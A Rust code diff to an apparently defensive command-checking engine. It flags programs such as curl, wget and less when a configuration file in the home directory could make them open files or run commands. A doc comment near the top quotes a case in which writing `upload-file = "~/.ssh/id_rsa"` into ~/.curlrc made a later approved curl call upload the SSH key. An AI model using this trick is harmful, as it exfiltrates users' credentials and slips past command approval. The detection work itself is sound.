@@ -39,6 +39,13 @@ const UNREAD: &[(&[&str], &[&str])] = &[(
     ],
 )];
 
+/// The programs whose configuration in the home can make them open any file or run a
+/// command (`upload-file`, `post_file`, `use_askpass`, a lesskey's `LESSOPEN`, bat's
+/// `--pager`) and which the engine does not read: one is not certain while such a file
+/// is there (helper-54: `echo 'upload-file = "~/.ssh/id_rsa"' > ~/.curlrc` in one
+/// call made the next call's allowed `curl URL` upload the key).
+const READ_AS_IT_IS: &[&str] = &["curl", "wget", "less", "bat", "jq"];
+
 impl Prepared<'_> {
     /// Mark the programs of each line that read a configuration file an earlier command
     /// of their line names or changes (FACTS: the lines' directories and changes).
@@ -82,6 +89,30 @@ impl Prepared<'_> {
                 })
             };
             for (i, program, config) in readers {
+                // A file in the home that one of [`READ_AS_IT_IS`] reads, there now: an
+                // earlier call may have written it, and what it holds is not read.
+                if READ_AS_IT_IS.contains(&program) {
+                    let files = memo.entry(program).or_insert_with(|| {
+                        self.config_files(program, config, home.as_deref(), bases, fold)
+                    });
+                    for (shown, forms) in files.iter() {
+                        let in_home =
+                            shown.starts_with("~/") || shown.starts_with("$XDG_CONFIG_HOME/");
+                        let Some(first) = forms.first().filter(|_| in_home) else {
+                            continue;
+                        };
+                        if !forms.iter().any(|f| std::path::Path::new(f).exists()) {
+                            continue;
+                        }
+                        let why = format!(
+                            "`{program}` reads `{shown}`, which is there (an earlier call may have written it): what it names or runs is not read"
+                        );
+                        let mut c = self.path_cand(PathSource::Word(cand.key.clone()), first);
+                        c.cmds = vec![(ci, i)];
+                        c.uncertain = Some(why);
+                        more.push(c);
+                    }
+                }
                 // Nothing before it writes or changes anything: its files are not
                 // looked for (they cost the file system a visit each).
                 let writers = out.iter().any(|p| written_before(p, i));
